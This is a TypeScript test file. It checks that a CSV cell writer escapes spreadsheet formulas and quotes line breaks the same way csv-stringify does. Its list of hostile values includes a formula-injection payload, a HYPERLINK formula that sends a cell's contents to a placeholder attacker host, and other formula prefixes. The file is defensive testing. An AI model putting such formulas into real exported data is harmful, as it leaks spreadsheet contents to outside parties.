// csvCell against csv-stringify with the options the reconciliation file used to pass it: the same
// text for hostile values and for many random ones drawn from the characters that matter, and every
// value read back by csv-parse as written (an apostrophe before a formula). One difference is
// meant: with CRLF as the line end, csv-stringify leaves a lone line feed or carriage return
// unquoted, which ends the row for a reader that takes either as a line break; csvCell quotes every
// line break.

import { stringify } from 'csv-stringify/sync';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell } from '../../src/reports/csv-cell.js';

const byTheLibrary = (values: string[]): string => stringify([values], { delimiter: ';', escape_formulas: true, record_delimiter: '\r\n' });
const byCsvCell = (values: string[]): string => `${values.map(csvCell).join(';')}\r\n`;
const LINE_BREAK = /[\r\n]/;
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const readBack = (line: string): string[] => (parse(line, { delimiter: ';', record_delimiter: '\r\n', relax_quotes: false }) as string[][])[0] ?? [];
const asWritten = (values: string[]): string[] => values.map((v) => (FORMULA_START.test(v) ? `'${v}` : v));

const HOSTILE = [
  '', 'plain', '=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+2', '-3-4', '@SUM(A1:A2)', '\tTAB', '\rCR', 'two\r\nlines\nand a third',
  'Shop "quoted"; and; semicolons', "O'Brien", 'Зоя Łukasz 王小明 محمد', '＝1+1', '＋1', '－1', '＠A1', 'a;b', '"', ';', '\n', 'x\ry',
];

describe('csvCell', () => {
  it('writes hostile values as csv-stringify does, and they parse back with the apostrophe before formulas', () => {
    for (const value of HOSTILE.filter((v) => !LINE_BREAK.test(v))) expect(byCsvCell([value, 'next']), JSON.stringify(value)).toBe(byTheLibrary([value, 'next']));
    expect(csvCell('\rCR')).toBe(`"'\rCR"`);
    expect(csvCell('x\ry')).toBe('"x\ry"');
    expect(csvCell('x\ny')).toBe('"x\ny"');
    expect(csvCell('two\r\nlines')).toBe('"two\r\nlines"');
    expect(readBack(byCsvCell(HOSTILE))).toEqual(asWritten(HOSTILE));
  });

  it('writes 5,000 random values as csv-stringify does', () => {
    const alphabet = ['a', 'Z', '1', ' ', ';', '"', "'", '\r', '\n', '\t', '=', '+', '-', '@', '＝', 'é', '王', ','];
    let seed = 42;
    const random = () => {
      seed = (seed * 1_103_515_245 + 12_345) % 2 ** 31;
      return seed / 2 ** 31;
    };
    const values = Array.from({ length: 5_000 }, () => Array.from({ length: Math.floor(random() * 6) }, () => alphabet[Math.floor(random() * alphabet.length)]).join(''));
    for (let i = 0; i < values.length; i += 50) {
      const row = values.slice(i, i + 50);
      expect(readBack(byCsvCell(row))).toEqual(asWritten(row));
      const comparable = row.filter((v) => !LINE_BREAK.test(v));
      expect(byCsvCell(comparable)).toBe(byTheLibrary(comparable));
    }
  });
});
